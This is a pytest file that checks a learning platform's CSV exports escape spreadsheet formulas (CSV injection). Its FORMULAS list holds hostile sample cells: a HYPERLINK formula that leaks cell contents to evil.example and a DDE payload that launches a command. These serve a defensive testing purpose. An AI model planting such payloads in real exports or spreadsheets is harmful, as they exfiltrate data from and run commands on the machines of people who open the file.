"""CSV exports never carry a formula (OWASP CSV injection), issue 16 point 7.

Every CSV download goes through ``learnpath.web.spreadsheet``: a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote. A plain
number such as ``-0.25`` (a mean change) stays a number on purpose.
"""

from __future__ import annotations

import csv
import io

import pytest

from learnpath.accounts.models import Role
from learnpath.extensions import db
from learnpath.web.spreadsheet import csv_text, safe_cell
from tests.reports.conftest import year_of
from tests.reports.data import generate

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-cmd",
    "=",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "-0.25", "12", "41.7", "< 5", "hidden", "Groep 1", ""])
def test_plain_numbers_and_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_non_text_values_are_written_as_text():
    assert safe_cell(None) == "" and safe_cell(-3) == "-3" and safe_cell(2.5) == "2.5"


def test_quoting_survives_separators_and_quotes():
    value = '=A1,"B2"\n=C3'
    rows = list(csv.reader(io.StringIO(csv_text([["label", value]]))))
    assert rows == [["label", "'" + value]]


def _rows(text: str) -> list[list[str]]:
    """A report CSV as Dutch Excel reads it: byte-order mark, ";" and decimal commas."""
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_hr_dashboard_csv_quotes_cohort_and_department_names(client, login_as, make_user, org):
    data = generate(org, {"Sociaal domein": 24, "Ruimte": 12}, cohorts=2)
    data.cohorts[0].name = FORMULAS[0]
    data.cohorts[1].name = "@SUM(1+1)"
    data.departments["Ruimte"].name = "+31 6 1234 5678"
    db.session.commit()
    login_as(make_user(Role.HR, organisation=org))
    year = year_of(data)

    cohorts = _rows(client.get(f"/rapportage/organisatie/cohorts.csv?jaar={year}").text)
    labels = [row[0] for row in cohorts[1:]]
    assert "'" + FORMULAS[0] in labels and "'@SUM(1+1)" in labels
    departments = _rows(client.get(f"/rapportage/organisatie/departments.csv?jaar={year}").text)
    assert "'+31 6 1234 5678" in [row[0] for row in departments[1:]]

    for table in ("cohorts", "departments", "status", "competencies"):
        for row in _rows(client.get(f"/rapportage/organisatie/{table}.csv?jaar={year}").text):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (table, row)
                if cell.startswith("-"):
                    float(cell.replace(",", "."))  # only a plain negative number, never a formula
